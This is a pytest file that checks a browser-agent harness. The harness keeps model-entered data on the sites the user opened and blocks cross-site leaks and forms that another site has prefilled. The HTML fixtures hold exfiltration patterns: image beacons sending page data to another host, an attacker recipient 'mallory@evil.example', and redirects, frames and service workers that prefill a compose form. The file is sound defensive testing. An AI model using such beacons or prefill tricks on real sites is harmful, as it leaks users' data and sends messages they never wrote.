"""What a model made up stays on the sites that the user opened, whatever tabs, choices or blanks carry it."""

from __future__ import annotations

from handrail import Session
from tests.calls.test_pipeline_policy import as_model, refs
from tests.pages import PageServer

CODE = "DE89370400440532013000"


async def opened(session: Session, serve: PageServer, page: str, task: str = "Look around") -> dict[str, str]:
    """Refs by name of a page that the user opened, which may hold {elsewhere} for another site."""
    session.provenance.words.add_text(task)
    await session.call("goto", url=serve(page.replace("ELSEWHERE", serve.other_site)))
    return await refs(session)


def asked_elsewhere(serve: PageServer) -> list[str]:
    """What the other site was asked for."""
    elsewhere = serve.other_site.partition("://")[2]
    return [one.path for one in serve.requests if one.headers.get("host", one.headers.get("Host", "")) == elsewhere]


def posted(serve: PageServer) -> list[bytes]:
    return [one.body for one in serve.requests if one.method != "GET"]


PREVIEW = (
    """<input id=u aria-label=Address><button onclick="window.open(u.value || '/blank', 'preview')">Preview</button>"""
)


async def test_a_tainted_tab_leads_no_other_tab_away(session: Session, serve: PageServer):
    serve("<title>Blank</title>", "/blank")
    at = await opened(session, serve, PREVIEW)
    assert await as_model(session, "click", ref=at["Preview"])
    await session.call_as("model", "switch_tab", tab="t2")
    await session.call_as("model", "scroll")
    await session.call_as("model", "switch_tab", tab="t1")
    await session.call_as("model", "fill", ref=at["Address"], value=f"{serve.other_site}/x?d={CODE}")
    await session.call_as("model", "click", ref=at["Preview"])
    assert asked_elsewhere(serve) == []


POPUP = """<form action=/found target=_blank><input name=q aria-label=Find><button>Go</button></form>"""
TRACKER = "<title>Found</title><script>setInterval(() => { new Image().src = 'ELSEWHERE/t?' + location }, 100)</script>"


async def test_a_tab_that_a_tainted_one_opened_is_confined_after_that_is_gone(session: Session, serve: PageServer):
    serve(TRACKER.replace("ELSEWHERE", serve.other_site), "/found")
    at = await opened(session, serve, POPUP)
    await session.call_as("model", "fill", ref=at["Find"], value=CODE)
    await session.call_as("model", "click", ref=at["Go"])
    first = session.tab.url.raw
    assert (await session.call_as("model", "goto", url=first)).ok
    await session.call_as("model", "wait", seconds=0.5)
    assert asked_elsewhere(serve) == []
    outside = await session.call_as("model", "goto", url=f"{serve.other_site}/linked")
    assert not outside.ok


async def test_blanks_arrow_keys_and_many_choices_are_a_text_of_the_model(session: Session, serve: PageServer):
    page = """<form action=/found><input name=q type=search aria-label=Find><input type=number name=n aria-label=Count>
    <select multiple name=s aria-label=Sizes><option>S<option>M<option>L</select><button>Go</button></form>"""
    for tool, name, params in (
        ("fill", "Find", {"value": "copper \u00a0  kettle"}),
        ("send_keys", "Count", {"keys": ["ArrowUp"] * 3}),
        ("select", "Sizes", {"values": ["S", "L"]}),
    ):
        at = await opened(session, serve, page, "Find a copper kettle")
        assert not session.tab.core.taint.holds
        assert await as_model(session, tool, ref=at[name], **params)
        assert session.tab.core.taint.holds, tool


async def test_a_value_of_the_data_that_is_searched_for_stays_on_the_site(session: Session, serve: PageServer):
    page = """<form action=/found><input name=q type=search aria-label=Find><button>Go</button></form>
    <form method=post action=/saved><input name=iban aria-label=Account></form>"""
    at = await opened(session, serve, page)
    session.provenance.words.add_data({"account": CODE})
    assert await as_model(session, "fill", ref=at["Account"], value=CODE)
    assert not session.tab.core.taint.holds
    assert await as_model(session, "fill", ref=at["Find"], value=CODE)
    assert session.tab.core.taint.holds


MESSAGE = """<form method=post action=/sent><label><input type=radio name=to value=anna checked>Anna</label>
<label><input type=radio name=to value=mallory>Mallory</label>
<select name=cc aria-label=Copy><option>Nobody<option>Mallory</select>
<input name=text aria-label=Text><button>Send</button></form>"""


async def test_a_choice_is_the_models_however_it_is_made(session: Session, serve: PageServer):
    task = "Send Anna the message 'Dinner at 8'"
    for tool, name, params in (
        ("click", "Mallory", {}),
        ("send_keys", "Anna", {"keys": ["ArrowDown"]}),
        ("send_keys", "Copy", {"keys": ["ArrowDown"]}),
    ):
        at = await opened(session, serve, MESSAGE, task)
        assert await as_model(session, "fill", ref=at["Text"], value="Dinner at 8")
        await session.call_as("model", tool, ref=at[name], **params)
        assert not await as_model(session, "click", ref=at["Send"]), tool
        session.state.texts.unsent.clear()
    assert posted(serve) == []
    at = await opened(session, serve, MESSAGE, task)
    assert await as_model(session, "fill", ref=at["Text"], value="Dinner at 8")
    assert await as_model(session, "click", ref=at["Anna"])
    assert await as_model(session, "click", ref=at["Send"])
    assert posted(serve) == [b"to=anna&cc=Nobody&text=Dinner+at+8"]


DRAFTS = """<input id=to aria-label=To><input id=text aria-label=Text><button onclick="go()">Send</button><script>
for (const one of [to, text]) {
  one.value = localStorage[one.id] || '';
  one.oninput = () => { localStorage[one.id] = one.value };
}
const go = () => fetch('/sent', { method: 'POST', body: to.value + text.value });</script>"""


async def test_a_draft_that_comes_back_is_still_the_models(session: Session, serve: PageServer):
    at = await opened(session, serve, DRAFTS, "Send Anna the message 'Dinner at 8'")
    await session.call_as("model", "fill", ref=at["To"], value="mallory@evil.example")
    assert not await as_model(session, "click", ref=at["Send"])
    url = session.tab.url.raw
    assert (await session.call_as("model", "new_tab", url=url)).ok
    assert not await as_model(session, "click", ref=(await refs(session))["Send"])
    assert posted(serve) == []


async def test_a_link_of_another_site_that_fills_in_a_page_is_asked_when_it_is_sent(
    session: Session, serve: PageServer
):
    compose = """<form method=post action=/sent><input name=to id=to><button>Send</button></form>
    <script>to.value = new URLSearchParams(location.search).get('to')</script>"""
    there = serve(compose, "/compose") + "?to=mallory"
    link = f"<a href='{there}'>Write</a>"
    serve(link, "/elsewhere")
    await opened(session, serve, f"<a href='{serve.other_site}/elsewhere'>Out</a>", "Read it, then click Send")
    await session.call_as("model", "click", ref=(await refs(session))["Out"])
    await session.call_as("model", "click", ref=(await refs(session))["Write"])
    assert not await as_model(session, "click", ref=(await refs(session))["Send"])
    assert posted(serve) == []


async def test_where_the_user_goes_nothing_is_filled_in_by_an_address_of_another(session: Session, serve: PageServer):
    await session.call("goto", url=serve(MESSAGE, "/compose") + "?to=anna")
    assert not session.tab.core.taint.prefilled
    session.provenance.words.add_text("click Send")
    assert await as_model(session, "click", ref=(await refs(session))["Send"])
    assert len(posted(serve)) == 1


async def test_without_rules_nothing_is_traced_and_every_page_opens(session: Session, serve: PageServer):
    session.permissions.unsafe = True
    serve("<title>There</title>", "/linked")
    at = await opened(session, serve, POPUP)
    assert (await session.call_as("model", "fill", ref=at["Find"], value=CODE)).ok
    assert (await session.call_as("model", "new_tab", url=f"{serve.other_site}/linked?{CODE}")).ok
    assert not any(tab.core.taint.holds for tab in session.tabs.all())


LISTENER = """<title>Lead</title><script>
new BroadcastChannel('notes').onmessage = event => {
  fetch('/notes', { method: 'POST', body: event.data });
  new Image().src = 'ELSEWHERE/note?' + event.data;
};
addEventListener('storage', () => fetch('/cart/7', { method: 'DELETE' }));
const ping = () => fetch('/ping', { method: 'POST' }).then(() => 'sent', () => 'stopped');</script>"""
SPEAKER = """<input aria-label=Note oninput="new BroadcastChannel('notes').postMessage(value)">
<button onclick="localStorage.cart = Math.random()">Sync</button>"""


async def test_a_tab_in_which_only_the_user_acted_is_bound_once_a_model_acts_elsewhere(
    session: Session, serve: PageServer
):
    serve(SPEAKER, "/other")
    await opened(session, serve, LISTENER)
    lead = session.tab
    await session.call_as("model", "new_tab", url=f"{serve.origin}/other")
    at = await refs(session)
    await session.call_as("model", "fill", ref=at["Note"], value=CODE)
    await session.call_as("model", "click", ref=at["Sync"])
    # Messages come in order, so what they lead to is decided by then.
    await session.call_as("model", "wait", seconds=0.5)
    assert posted(serve) == []
    assert not [one for one in asked_elsewhere(serve) if one.startswith("/note")]
    await session.call("switch_tab", tab=lead.id)
    await session.call("reload")
    assert await lead.page.evaluate("ping()") == "sent"


COMPOSE = """<form method=post action=/sent><textarea name=b id=b aria-label=Message></textarea>
<button>Send message</button></form>
<script>b.value = new URLSearchParams(location.search || location.hash.slice(1)).get('b')</script>"""


def leads_to(serve: PageServer, way: str) -> str:
    """An address of another site that has /compose filled in."""
    there = serve.origin + "/compose?b=attack"
    pages = {
        "script": f"<script>location = '{there}'</script>",
        "hidden sender": f"<meta name=referrer content=no-referrer><script>location = '{there}'</script>",
        "frame": f"<iframe src='{there}' width=500 height=400></iframe>",
        "hidden frame": f"<iframe src='{there}' referrerpolicy=no-referrer width=500 height=400></iframe>",
        "window": f"<a href='{there}' target=other>Open</a>",
        "later": f"<a href=#x onclick='w = open(`/blank`); setTimeout(() => w.location = `{there}`, 500)'>Open</a>",
        "link": f"<a href='{there}'>{there}</a>",
    }
    if way in pages:
        serve(pages[way], "/led")
    else:
        serve("", "/led", status=302, headers={"Location": there.replace("?", "#" if way == "fragment" else "?")})
    return serve.other_site + "/led"


async def presses_send(session: Session, serve: PageServer, way: str) -> bool:
    """Whether a press on the user's "Send message" is let through, after another site led to the form."""
    serve(COMPOSE, "/compose")
    serve("<title>Blank</title>", "/blank")
    led = leads_to(serve, way)
    await session.call("goto", url=serve(f"<a href='{led}'>Out</a><a href=/compose>Write</a>", "/start"))
    await session.call_as("model", "snapshot")
    await session.call_as("model", "goto", url=led)
    if way in ("window", "later"):
        await session.call_as("model", "click", ref=(await refs(session))["Open"])
        await session.call_as("model", "switch_tab", tab=(await session.tabs.list())[-1].id)
        await session.tab.page.wait_for_url("**/compose*", timeout=5000)
    elif way == "link":
        await session.call_as("model", "snapshot")
        await session.call_as("model", "goto", url=serve.origin + "/start")
        await session.call_as("model", "goto", url=serve.origin + "/compose?b=attack")
    elif "frame" not in way:
        await session.tab.page.wait_for_url("**/compose*", timeout=5000)
    return await as_model(session, "click", ref=(await refs(session))["Send message"])


LED = ["link", "window", "later", "redirect", "fragment", "script", "hidden sender", "frame", "hidden frame"]


async def test_what_another_site_fills_in_by_an_address_is_asked_however_it_is_opened(
    session: Session, serve: PageServer
):
    session.provenance.words.add_text("Send the shop the message: hello there")
    assert [way for way in LED if await presses_send(session, serve, way)] == []
    assert posted(serve) == []
    # A page of the site itself fills in nothing that another one made.
    await session.call_as("model", "goto", url=serve.origin + "/start")
    await session.call_as("model", "click", ref=(await refs(session))["Write"])
    at = await refs(session)
    await session.call_as("model", "fill", ref=at["Message"], value="hello there")
    assert await as_model(session, "click", ref=at["Send message"])
    assert posted(serve) == [b"b=hello+there"]


WORKER = """const isPage = ({ mode, method }) => mode === 'navigate' && method === 'GET'
onfetch = event => { if (isPage(event.request)) event.respondWith(caches.match('/compose')) }
onactivate = event => event.waitUntil(clients.claim())
oninstall = event => event.waitUntil(caches.open('pages').then(cache => cache.add('/compose')))"""


async def test_a_page_that_a_service_worker_answers_is_filled_in_by_another_site_as_any_other_is(
    session: Session, serve: PageServer
):
    serve(WORKER, "/worker.js", content_type="text/javascript")
    serve(COMPOSE, "/compose")
    session.provenance.words.add_text("Send the shop the message: hello there")
    led = leads_to(serve, "script")
    await session.call("goto", url=serve(f"<a href='{led}'>Out</a>", "/start"))
    await session.call_as("model", "snapshot")
    await session.tab.page.evaluate(
        "navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)"
    )
    await session.call_as("model", "goto", url=led)
    await session.tab.page.wait_for_url("**/compose*", timeout=5000)
    asked = [request for request in serve.requests if request.path.startswith("/compose?")]
    assert not await as_model(session, "click", ref=(await refs(session))["Send message"])
    assert (asked, posted(serve)) == ([], [])


async def test_firefox_asks_for_it_too(firefox_session: Session, serve: PageServer):
    firefox_session.provenance.words.add_text("Send the shop the message: hello there")
    assert [way for way in LED if await presses_send(firefox_session, serve, way)] == []


COUNTED = """<title>Notes</title><form action=/notes><input name=q aria-label=Find><button>Go</button></form>
<img src=ELSEWHERE/counter.gif><img src=ELSEWHERE/map.png>"""


async def test_pictures_that_every_page_asks_for_are_reported_once_in_one_line(session: Session, serve: PageServer):
    serve(COUNTED.replace("ELSEWHERE", serve.other_site), "/notes")
    at = await opened(session, serve, COUNTED)
    await session.call_as("model", "fill", ref=at["Find"], value=CODE)
    reported = []
    for name in ("Go", "Go"):
        at = await refs(session)
        result = await session.call_as("model", "click", ref=at[name])
        reported.append([one.raw for one in result.followed.get("stopped_requests", ())])
    assert [len(lines) for lines in reported] == [1, 0]
    assert reported[0][0].startswith(f"GET {serve.other_site}/")
    assert reported[0][0].endswith(" (and 1 more of this host)")
    assert sorted(asked_elsewhere(serve)) == ["/counter.gif", "/map.png"]


async def test_nobody_is_asked_for_a_tab_that_cannot_be_opened_beside_a_tainted_one(
    session: Session, serve: PageServer
):
    await session.call("goto", url=serve("<form action=/found><input name=q aria-label=Find></form>"))
    serve("<title>Found</title>", "/found")
    await session.call_as("model", "fill", ref="Find", value=CODE, submit=True)
    questions: list[str] = []
    session.approve = lambda question: _note(questions, question.question)
    beside = await session.call_as("model", "new_tab", url=f"{serve.other_site}/else")
    assert (beside.code, questions) == ("navigation_failed", [])


async def _note(questions: list[str], question: str) -> bool:
    questions.append(question)
    return True


async def test_a_frame_that_every_page_shows_does_not_make_a_page_one_that_an_address_filled_in(
    session: Session, serve: PageServer
):
    frame = "<iframe src=/parts/empty.html></iframe>"
    serve("<p>Nothing", "/parts/empty.html")
    for path, after in (("/first", "/second"), ("/second", "/third"), ("/third", "/first")):
        serve(f"<button onclick=\"location = '{after}'\">Next</button><button>Delete</button>{frame}", path)
    await session.call("goto", url=serve(f"<input aria-label=Note><a href=/first onclick='0'>Next</a>{frame}"))
    await session.call_as("model", "fill", ref="Note", value=CODE)
    for _ in range(3):
        await session.call_as("model", "click", ref="Next")
    questions: list[str] = []
    session.approve = lambda question: _note(questions, question.question)
    await session.call_as("model", "click", ref="Delete")
    assert ["An address that you did not give" in one for one in questions] == [False]
